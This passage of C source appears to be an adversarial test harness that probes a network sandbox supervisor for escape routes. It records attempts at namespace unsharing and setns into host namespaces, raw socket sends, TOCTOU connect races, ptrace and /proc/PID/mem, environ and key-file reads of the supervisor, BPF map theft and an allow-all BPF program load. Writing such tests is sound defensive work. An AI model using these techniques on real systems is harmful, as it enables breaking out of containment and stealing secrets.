	snprintf(k, sizeof(k), "%ssupervisor_connect", tag);
	info(k, "%s", ename(s->sup_e));
	snprintf(k, sizeof(k), "%ssupervisor_reply", tag);
	tohex(s->sup, s->sup_n, hex);
	info(k, "%s", hex);
}

/* child: the same tries from wherever the child now is; result via a pipe */
static void kid_sockets(struct kid_res *r, void *arg)
{
	struct sock_try *shared = arg;

	sockets_try(shared);
	r->a = 0;
}

/* unshare a user namespace and map our uid to its root. Mapping a parent's
 * uid 0 needs CAP_SETFCAP there, so as (namespaced) root the map may be
 * refused: the namespace's capabilities hold without it. Returns the
 * unshare's errno; the map's result goes to info. */
static int map_self_userns(void)
{
	char m[64];
	uid_t u = getuid();
	gid_t g = getgid();
	int fd, e = 0;

	if (unshare(CLONE_NEWUSER) < 0)
		return errno;
	fd = open("/proc/self/setgroups", O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (write(fd, "deny", 4) < 0) {
		}
		close(fd);
	}
	snprintf(m, sizeof(m), "0 %u 1", u);
	fd = open("/proc/self/uid_map", O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, m, strlen(m)) < 0)
		e = errno;
	if (fd >= 0)
		close(fd);
	info("nested_uid_map", "%s", ename(e));
	snprintf(m, sizeof(m), "0 %u 1", g);
	fd = open("/proc/self/gid_map", O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (write(fd, m, strlen(m)) < 0) {
		}
		close(fd);
	}
	return 0;
}

static void kid_userns_sockets(struct kid_res *r, void *arg)
{
	r->b = map_self_userns();
	sockets_try(arg);
	r->a = 0;
}

/* 7. supervisor.sock and control.sock from here, a nested user namespace,
 * and an escaped child */
static void mode_sockets(void)
{
	struct sock_try *s = mmap(NULL, sizeof(*s), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct kid_res r;
	char roots[48][PATH_MAX];
	int n, i;

	if (s == MAP_FAILED)
		return;
	sockets_try(s);
	sockets_record("self_", s);
	if (run_kid(&r, kid_userns_sockets, s) == 0) {
		info("userns_unshare", "%s", r.b < 0 ? "not_run" : ename(r.b));
		sockets_record("userns_", s);
	}
	n = cgroup_roots(roots, 48);
	for (i = 0; i < n; i++) {
		char k[PATH_MAX + 32];
		int fd, e;

		if (!new_cgroup_dir(roots, i))
			continue;
		fd = open(roots[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0)
			continue;
		e = clone_into(fd, &r, kid_sockets, s);
		close(fd);
		snprintf(k, sizeof(k), "clone3_into:%s", roots[i]);
		attempt(k, e);
		if (!e) {
			sockets_record("escaped_", s);
			break;
		}
	}
	connect_denied("");
	report("sockets");
}

/* ---- nested user namespace ---- */

static void kid_nested(struct kid_res *r, void *arg)
{
	char mnts[16][PATH_MAX], tmp[] = "/tmp/adv-mnt-XXXXXX";
	int i, m, fd;
	(void)arg;

	r->a = map_self_userns();
	if (r->a)
		return;
	if (unshare(CLONE_NEWNS) < 0) {
		r->b = errno;
		return;
	}
	r->b = 0;
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	/* peel every mount that could hide something: a locked mount stays */
	if (o.state) {
		info("nested_umount_state", "%s", ename(umount2(o.state, MNT_DETACH) ? errno : 0));
		info("nested_umount_opdir", "%s", ename(umount2(opdir, MNT_DETACH) ? errno : 0));
	}
	m = mounts_of("cgroup2", mnts, 16);
	for (i = 0; i < m; i++) {
		char k[PATH_MAX + 32];
		snprintf(k, sizeof(k), "nested_umount:%s", mnts[i]);
		info(k, "%s", ename(umount2(mnts[i], MNT_DETACH) ? errno : 0));
	}
	info("nested_umount_proc", "%s", ename(umount2("/proc", MNT_DETACH) ? errno : 0));
	info("nested_umount_sys", "%s", ename(umount2("/sys", MNT_DETACH) ? errno : 0));
	/* a bpffs of our own, and a bpffs with delegation for a BPF token */
	if (mkdtemp(tmp)) {
		int e = mount("bpf", tmp, "bpf", 0, NULL);
		info("nested_mount_bpffs", "%s", ename(e ? errno : 0));
		if (!e)
			umount2(tmp, MNT_DETACH);
		fd = (int)syscall(SYS_fsopen, "bpf", 0);
		if (fd >= 0) {
			int e2 = 0, mfd;
			if (syscall(SYS_fsconfig, fd, 1 /* FSCONFIG_SET_STRING */, "delegate_cmds", "any", 0) < 0)
				e2 = errno;
			info("nested_bpffs_delegate", "%s", ename(e2));
			if (!e2 && syscall(SYS_fsconfig, fd, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) == 0) {
				mfd = (int)syscall(SYS_fsmount, fd, 0, 0);
				if (mfd >= 0) {
					/* BPF_TOKEN_CREATE (36) {flags, bpffs_fd}: newer
					 * than this system's linux/bpf.h */
					union bpf_attr a;
					uint32_t w[2] = { 0, (uint32_t)mfd };
					int tok;
					memset(&a, 0, sizeof(a));
					memcpy(&a, w, sizeof(w));
					tok = (int)sys_bpf(36, &a);
					attempt("nested_bpf_token_create", tok < 0 ? errno : 0);
					if (tok >= 0)
						close(tok);
					close(mfd);
				}
			}
			close(fd);
		}
		rmdir(tmp);
	}
	/* with the mounts peeled: the pins, the evidence, a cgroup root */
	if (o.op)
		bpffs_attack("nested_");
	if (o.state)
		evidence_attack("nested_");
	cgroup_attack("nested_", NULL, NULL);
	connect_denied("nested_");
	report("nested-userns-kid");
}

/* 8. unshare a user+mount namespace, peel the mounts, retry 1-3 */
static void mode_nested_userns(void)
{
	struct kid_res r;

	if (run_kid(&r, kid_nested, NULL) == 0) {
		info("unshare_user", "%s", r.a < 0 ? "not_run" : ename(r.a));
		info("unshare_mnt", "%s", r.b < 0 ? "not_run" : ename(r.b));
	}
	connect_denied("");
	report("nested-userns");
}

/* ---- raw and packet sockets ---- */

static uint16_t csum(const void *p, size_t n)
{
	const uint16_t *w = p;
	uint32_t s = 0;

	for (; n > 1; n -= 2)
		s += *w++;
	if (n)
		s += *(const uint8_t *)w;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

struct pkt {
	struct iphdr ip;
	struct udphdr udp;
	char data[sizeof(PAYLOAD)];
} __attribute__((packed));

static void build_pkt(struct pkt *p)
{
	memset(p, 0, sizeof(*p));
	p->ip.version = 4;
	p->ip.ihl = 5;
	p->ip.ttl = 64;
	p->ip.protocol = IPPROTO_UDP;
	p->ip.tot_len = htons(sizeof(*p));
	p->ip.saddr = htonl(INADDR_LOOPBACK);
	p->ip.daddr = htonl(INADDR_LOOPBACK);
	p->ip.check = csum(&p->ip, sizeof(p->ip));
	p->udp.source = htons(40000);
	p->udp.dest = htons((uint16_t)o.uport);
	p->udp.len = htons(sizeof(p->udp) + sizeof(p->data));
	p->udp.check = 0; /* optional for IPv4 */
	memcpy(p->data, PAYLOAD, sizeof(PAYLOAD));
}

/* A raw IPv4 socket of protocol proto sending len bytes at buf to loopback:
 * attempts "<name>_socket", then (once it opened) "<name>_sendto". */
static void raw_sendto(const char *name, int proto, const void *buf, size_t len)
{
	struct sockaddr_in d = lo4(0);
	char what[64];
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, proto);
	int err = fd < 0 ? errno : 0;

	snprintf(what, sizeof(what), "%s_socket", name);
	attempt(what, err);
	if (fd < 0)
		return;
	snprintf(what, sizeof(what), "%s_sendto", name);
	attempt(what, sendto(fd, buf, len, 0, (struct sockaddr *)&d, sizeof(d)) < 0 ? errno : 0);
	close(fd);
}

/* 9. raw IP and packet sockets carrying a hand-made UDP datagram */
static void mode_raw(void)
{
	struct pkt p;
	int fd;

	build_pkt(&p);
	/* SOCK_RAW/IPPROTO_UDP: we write the UDP header, the kernel the IP one */
	raw_sendto("raw_udp", IPPROTO_UDP, &p.udp, sizeof(p) - sizeof(p.ip));
	raw_sendto("raw_ip", IPPROTO_RAW, &p, sizeof(p));
	/* AF_PACKET bound to lo: write(2), which no seccomp filter looks at */
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_IP));
	if (fd < 0) {
		attempt("packet_socket", errno);
	} else {
		struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
		unsigned char frame[14 + sizeof(p)];

		attempt("packet_socket", 0);
		ll.sll_ifindex = (int)if_nametoindex("lo");
		memset(frame, 0, 12);
		frame[12] = 0x08;
		frame[13] = 0x00;
		memcpy(frame + 14, &p, sizeof(p));
		if (bind(fd, (struct sockaddr *)&ll, sizeof(ll)) < 0)
			attempt("packet_bind", errno);
		else
			attempt("packet_write", write(fd, frame, sizeof(frame)) < 0 ? errno : 0);
		close(fd);
	}
	connect_denied("");
	report("raw");
}

/* ---- UDP without connect ---- */

static int uring_sendmsg(const struct sockaddr_in *d)
{
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct iovec iov = { (void *)PAYLOAD, sizeof(PAYLOAD) };
	struct msghdr m = { .msg_name = (void *)d, .msg_namelen = sizeof(*d), .msg_iov = &iov, .msg_iovlen = 1 };
	int fd, r;

	r = io_uring_queue_init(4, &ring, 0);
	if (r < 0)
		return -r;
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_sendmsg(sqe, fd, &m, 0);
	r = uring_complete(&ring);
	io_uring_queue_exit(&ring);
	close(fd);
	return r;
}

/* 10. every way to send a datagram to a denied UDP port */
static void mode_udp(void)
{
	struct sockaddr_in d = lo4(o.uport), any = lo4(o.uport);
	struct sockaddr_in6 m6 = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)o.uport) };
	struct iovec iov = { (void *)PAYLOAD, sizeof(PAYLOAD) };
	struct msghdr mh = { .msg_name = &d, .msg_namelen = sizeof(d), .msg_iov = &iov, .msg_iovlen = 1 };
	struct mmsghdr mm[2];
	int fd;

	any.sin_addr.s_addr = htonl(INADDR_ANY);
	inet_pton(AF_INET6, "::ffff:127.0.0.1", &m6.sin6_addr);
	attempt("sendto", udp_sendto((struct sockaddr *)&d, sizeof(d), AF_INET));
	attempt("sendto_0.0.0.0", udp_sendto((struct sockaddr *)&any, sizeof(any), AF_INET));
	attempt("sendto_v4mapped", udp_sendto((struct sockaddr *)&m6, sizeof(m6), AF_INET6));
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	attempt("sendmsg", sendmsg(fd, &mh, 0) < 0 ? errno : 0);
	memset(mm, 0, sizeof(mm));
	mm[0].msg_hdr = mh;
	mm[1].msg_hdr = mh;
	{
		int n = sendmmsg(fd, mm, 2, 0);
		attempt("sendmmsg", n < 0 ? errno : (n > 0 ? 0 : EAGAIN));
	}
	/* connected UDP, then a plain write() that carries no address */
	if (connect(fd, (struct sockaddr *)&d, sizeof(d)) < 0) {
		attempt("connect_udp", errno);
	} else {
		attempt("connect_udp", 0);
		attempt("write_connected_udp", write(fd, PAYLOAD, sizeof(PAYLOAD)) < 0 ? errno : 0);
	}
	close(fd);
	attempt("uring_sendmsg", uring_sendmsg(&d));
	connect_denied("");
	report("udp");
}

/* ---- aliases and fast open ---- */

static int tfo_sendto(const struct sockaddr *sa, socklen_t len)
{
	int fd = socket(sa->sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0), r = 0;

	if (fd < 0)
		return errno;
	if (sendto(fd, PAYLOAD, sizeof(PAYLOAD), MSG_FASTOPEN, sa, len) < 0)
		r = errno;
	else
		usleep(50 * 1000); /* let the handshake finish so the bytes land */
	close(fd);
	return r;
}

static int tfo_connect_opt(const struct sockaddr *sa, socklen_t len)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1, r = 0;

	if (fd < 0)
		return errno;
	setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one));
	if (connect(fd, sa, len) < 0 || write(fd, PAYLOAD, sizeof(PAYLOAD)) < 0)
		r = errno;
	close(fd);
	return r;
}

/* 11. the same listener under other names, and connects that hide in sendto */
static void mode_alias(void)
{
	struct sockaddr_in d = lo4(o.port), any = lo4(o.port), alt = lo4(o.port);
	struct sockaddr_in6 m6 = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)o.port) };
	struct sockaddr_in6 m6any = m6;
	struct sockaddr_storage big;

	any.sin_addr.s_addr = htonl(INADDR_ANY);
	inet_pton(AF_INET6, "::ffff:127.0.0.1", &m6.sin6_addr);
	inet_pton(AF_INET6, "::ffff:0.0.0.0", &m6any.sin6_addr);
	memset(alt.sin_zero, 0xff, sizeof(alt.sin_zero));
	memset(&big, 0xff, sizeof(big));
	memcpy(&big, &d, sizeof(d));
	attempt("connect_0.0.0.0", tcp_to((struct sockaddr *)&any, sizeof(any), AF_INET));
	attempt("connect_v4mapped", tcp_to((struct sockaddr *)&m6, sizeof(m6), AF_INET6));
	attempt("connect_v4mapped_any", tcp_to((struct sockaddr *)&m6any, sizeof(m6any), AF_INET6));
	attempt("connect_dirty_sin_zero", tcp_to((struct sockaddr *)&alt, sizeof(alt), AF_INET));
	attempt("connect_oversized_addrlen", tcp_to((struct sockaddr *)&big, sizeof(big), AF_INET));
	attempt("tfo_sendto", tfo_sendto((struct sockaddr *)&d, sizeof(d)));
	attempt("tfo_sendto_v4mapped", tfo_sendto((struct sockaddr *)&m6, sizeof(m6)));
	attempt("tfo_connect_opt", tfo_connect_opt((struct sockaddr *)&d, sizeof(d)));
	connect_denied("");
	report("alias");
}

/* ---- TOCTOU ---- */

static struct sockaddr_in race_addr;
static atomic_int race_stop;

static void *racer(void *arg)
{
	(void)arg;
	while (!atomic_load(&race_stop)) {
		race_addr.sin_port = htons((uint16_t)o.port);
		race_addr.sin_port = htons((uint16_t)o.aport);
	}
	return NULL;
}

/* 12. connect to the allowed port while a thread flips the buffer to the denied one */
static void mode_toctou(void)
{
	pthread_t th;
	int i, ok = 0, refused = 0, other = 0;

	race_addr = lo4(o.aport);
	pthread_create(&th, NULL, racer, NULL);
	for (i = 0; i < o.repeat; i++) {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (connect(fd, (struct sockaddr *)&race_addr, sizeof(race_addr)) == 0) {
			struct sockaddr_in peer;
			socklen_t pl = sizeof(peer);
			if (write(fd, PAYLOAD, sizeof(PAYLOAD)) < 0) {
			}
			getpeername(fd, (struct sockaddr *)&peer, &pl);
			if (ntohs(peer.sin_port) == o.port)
				attempt_s("connected_to_denied_port", "ok");
			ok++;
		} else if (errno == EPERM || errno == EACCES) {
			refused++;
		} else {
			other++;
		}
		close(fd);
	}
	atomic_store(&race_stop, 1);
	pthread_join(th, NULL);
	info_num("ok", ok);
	info_num("refused", refused);
	info_num("other", other);
	connect_denied("");
	report("toctou");
}

/* attempt NAME: open PATH with FLAGS, closed again if it opened */
static void attempt_open(const char *name, const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);

	attempt(name, fd < 0 ? errno : 0);
	if (fd >= 0)
		close(fd);
}

/*
 * get(ctx, i) for each i in [lo, hi), every descriptor it returns closed
 * again: 0 if any worked; else the last errno other than `absent` (what a
 * number with nothing behind it gets), or ENOENT if there was no other.
 */
static int any_fd(int (*get)(long ctx, int i), long ctx, int lo, int hi, int absent)
{
	int i, got = 0, e = ENOENT;

	for (i = lo; i < hi; i++) {
		int fd = get(ctx, i);

		if (fd >= 0) {
			got++;
			close(fd);
		} else if (errno != absent) {
			e = errno;
		}
	}
	return got ? 0 : e;
}

/* descriptor i of the process behind pidfd ctx */
static int pidfd_getfd_of(long ctx, int i)
{
	return (int)syscall(SYS_pidfd_getfd, (int)ctx, i, 0);
}

/* descriptor i of process ctx, reopened through /proc */
static int proc_fd_of(long ctx, int i)
{
	char p[64];

	snprintf(p, sizeof(p), "/proc/%ld/fd/%d", ctx, i);
	return open(p, O_RDONLY | O_CLOEXEC);
}

/* the bpf map with id i */
static int bpf_map_fd_of(long ctx, int i)
{
	union bpf_attr a;

	(void)ctx;
	memset(&a, 0, sizeof(a));
	a.map_id = (uint32_t)i;
	return (int)sys_bpf(BPF_MAP_GET_FD_BY_ID, &a);
}

/* ---- /proc and ptrace of the supervisor ---- */

/* 13. ptrace, process_vm_*, /proc/PID/{mem,root,environ,fd}, pidfd_getfd */
static void mode_procfs(void)
{
	pid_t sup = read_pid_line("procfs");
	char p[PATH_MAX + 64];
	int fd;

	if (sup <= 0) {
		attempt_s("ptrace_seize", "no_pid_given");
		report("procfs");
		return;
	}
	if (ptrace(PTRACE_SEIZE, sup, NULL, NULL) == 0) {
		attempt("ptrace_seize", 0);
		ptrace(PTRACE_DETACH, sup, NULL, NULL);
	} else {
		attempt("ptrace_seize", errno);
	}
	{
		char buf[16];
		uintptr_t addr = 0;
		FILE *f;
		struct iovec l = { buf, sizeof(buf) }, r;

		snprintf(p, sizeof(p), "/proc/%d/maps", sup);
		f = fopen(p, "re");
		if (f) {
			if (fscanf(f, "%lx", &addr) != 1)
				addr = 0;
			fclose(f);
		}
		info("maps", "%s", f ? "ok" : ename(errno));
		if (!addr)
			addr = 0x400000;
		r.iov_base = (void *)addr;
		r.iov_len = sizeof(buf);
		attempt("process_vm_readv", process_vm_readv(sup, &l, 1, &r, 1, 0) < 0 ? errno : 0);
		attempt("process_vm_writev", process_vm_writev(sup, &l, 1, &r, 1, 0) < 0 ? errno : 0);
	}
	snprintf(p, sizeof(p), "/proc/%d/mem", sup);
	attempt_open("open_mem_rw", p, O_RDWR);
	snprintf(p, sizeof(p), "/proc/%d/environ", sup);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		char b[16];
		ssize_t n = read(fd, b, sizeof(b));
		attempt("read_environ", n < 0 ? errno : 0);
		close(fd);
	} else {
		attempt("read_environ", errno);
	}
	if (o.state) {
		snprintf(p, sizeof(p), "/proc/%d/root%s/key", sup, opdir);
		attempt_open("open_key_via_proc_root", p, O_RDONLY);
		snprintf(p, sizeof(p), "/proc/1/root%s/key", opdir);
		attempt_open("open_key_via_proc_1_root", p, O_RDONLY);
	}
	snprintf(p, sizeof(p), "/proc/%d/cwd/.", sup);
	attempt_open("open_cwd", p, O_RDONLY | O_DIRECTORY);
	/* the supervisor's own descriptors: bpf maps, the notify fd, sockets */
	fd = (int)syscall(SYS_pidfd_open, sup, 0);
	info("pidfd_open", "%s", ename(fd < 0 ? errno : 0));
	if (fd >= 0) {
		attempt("pidfd_getfd", any_fd(pidfd_getfd_of, fd, 0, 256, EBADF));
		close(fd);
	}
	attempt("reopen_proc_fd", any_fd(proc_fd_of, sup, 0, 256, ENOENT));
	connect_denied("");
	report("procfs");
}

/* ---- descriptors ---- */

/* 14. nothing but stdio is inherited */
static void mode_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	int n = 0;

	if (!d) {
		attempt("list_fds", errno);
		report("fds");
		return;
	}
	while ((de = readdir(d))) {
		int fd = atoi(de->d_name);
		char k[64], l[PATH_MAX], p[64];
		ssize_t len;

		if (de->d_name[0] == '.' || fd == dirfd(d))
			continue;
		n++;
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		len = readlink(p, l, sizeof(l) - 1);
		l[len > 0 ? len : 0] = 0;
		snprintf(k, sizeof(k), "fd:%d", fd);
		info(k, "%s", l);
		if (fd > 2)
			attempt_s(k, "ok"); /* an inherited descriptor is one we could use */
	}
	closedir(d);
	info_num("count", n);
	connect_denied("");
	report("fds");
}

/* ---- namespaces and handles ---- */

/* 15. setns into the host's namespaces; open_by_handle_at */
static void mode_setns(void)
{
	static const char *ns[] = { "net", "mnt", "cgroup", "pid", "user", "uts", "ipc" };
	pid_t anc[16];
	int na = ancestors(anc, 16), i, j;
	char p[64], k[96];

	for (j = -1; j < na; j++) {
		pid_t who = j < 0 ? 1 : anc[j];
		for (i = 0; i < 7; i++) {
			int fd;
			snprintf(p, sizeof(p), "/proc/%d/ns/%s", who, ns[i]);
			fd = open(p, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(k, sizeof(k), "setns:%s", p);
			attempt(k, setns(fd, 0) ? errno : 0);
			close(fd);
		}
	}
	{
		struct {
			struct file_handle fh;
			unsigned char b[128];
		} h;
		int mnt, fd;

		h.fh.handle_bytes = sizeof(h.b);
		if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mnt, 0) < 0) {
			info("name_to_handle_at", "%s", ename(errno));
		} else {
			int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			fd = open_by_handle_at(root, &h.fh, O_RDONLY | O_CLOEXEC);
			attempt("open_by_handle_at", fd < 0 ? errno : 0);
			if (fd >= 0)
				close(fd);
			close(root);
		}
	}
	connect_denied("");
	report("setns");
}

/* ---- bpf(2) enumeration, perf, keyrings ---- */

/* 16. find gensee's maps by id, load a program, open system-wide perf */
static void mode_bpf_syscall(void)
{
	union bpf_attr a;
	struct perf_event_attr pa;
	int fd;

	memset(&a, 0, sizeof(a));
	attempt("map_get_next_id", sys_bpf(BPF_MAP_GET_NEXT_ID, &a) ? errno : 0);
	memset(&a, 0, sizeof(a));
	attempt("prog_get_next_id", sys_bpf(BPF_PROG_GET_NEXT_ID, &a) ? errno : 0);
	memset(&a, 0, sizeof(a));
	attempt("link_get_next_id", sys_bpf(BPF_LINK_GET_NEXT_ID, &a) ? errno : 0);
	/* try ids directly: a map id is small and guessable */
	attempt("map_get_fd_by_id", any_fd(bpf_map_fd_of, 0, 1, 2048, ENOENT));
	{
		/* r0 = 1; exit: a cgroup/connect4 program that allows everything */
		struct bpf_insn insn[2] = {
			{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 },
			{ .code = BPF_JMP | BPF_EXIT },
		};
		memset(&a, 0, sizeof(a));
		a.prog_type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR;
		a.expected_attach_type = BPF_CGROUP_INET4_CONNECT;
		a.insns = (uint64_t)(uintptr_t)insn;
		a.insn_cnt = 2;
		a.license = (uint64_t)(uintptr_t) "GPL";
		fd = (int)sys_bpf(BPF_PROG_LOAD, &a);
		attempt("prog_load_cgroup_connect4", fd < 0 ? errno : 0);
		if (fd >= 0)
			close(fd);
	}
	memset(&pa, 0, sizeof(pa));
	pa.type = PERF_TYPE_SOFTWARE;
	pa.size = sizeof(pa);
	pa.config = PERF_COUNT_SW_CPU_CLOCK;
	fd = (int)syscall(SYS_perf_event_open, &pa, -1, 0, -1, 0);
	attempt("perf_event_open_system_wide", fd < 0 ? errno : 0);
	if (fd >= 0)
		close(fd);
	connect_denied("");
	report("bpf-syscall");
}

/* 0. the control: a plain connect to --port and a datagram to --uport */
static void mode_plain(void)
{
	struct sockaddr_in u = lo4(o.uport);

	if (o.port)
		connect_denied("");
	if (o.uport)
		attempt("sendto_udp", udp_sendto((struct sockaddr *)&u, sizeof(u), AF_INET));
	report("plain");
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*fn)(void);
	} modes[] = {
		{ "plain", mode_plain },
		{ "bpffs", mode_bpffs },
		{ "cgroup", mode_cgroup },
		{ "evidence", mode_evidence },
		{ "signal", mode_signal },
		{ "exit-window", mode_exit_window },
		{ "pid-reuse", mode_pid_reuse },
		{ "sockets", mode_sockets },
		{ "nested-userns", mode_nested_userns },
		{ "raw", mode_raw },
		{ "udp", mode_udp },
		{ "alias", mode_alias },
		{ "toctou", mode_toctou },
		{ "procfs", mode_procfs },
		{ "fds", mode_fds },
		{ "setns", mode_setns },
		{ "bpf-syscall", mode_bpf_syscall },
	};
	size_t i;
	int a;

	if (argc < 2) {
		fprintf(stderr, "usage: attack MODE [options]\n");
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	for (a = 2; a + 1 < argc; a += 2) {
		const char *k = argv[a], *v = argv[a + 1];
		if (!strcmp(k, "--port"))
			o.port = atoi(v);
		else if (!strcmp(k, "--uport"))
			o.uport = atoi(v);
		else if (!strcmp(k, "--aport"))
			o.aport = atoi(v);
		else if (!strcmp(k, "--repeat"))
			o.repeat = atoi(v);
		else if (!strcmp(k, "--state"))
			o.state = v;
		else if (!strcmp(k, "--op"))
			o.op = v;
		else if (!strcmp(k, "--victim"))
			o.victim = v;
		else if (!strcmp(k, "--victim-bin"))
			o.victim_bin = v;
		else if (strcmp(k, "--token")) {
			fprintf(stderr, "attack: unknown option %s\n", k);
			return 2;
		}
	}
	if (o.state && o.op)
		snprintf(opdir, sizeof(opdir), "%s/network-operations/%s", o.state, o.op);
	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
		if (!strcmp(argv[1], modes[i].name)) {
			modes[i].fn();
			return 0;
		}
	fprintf(stderr, "attack: unknown mode %s\n", argv[1]);
	return 2;
}
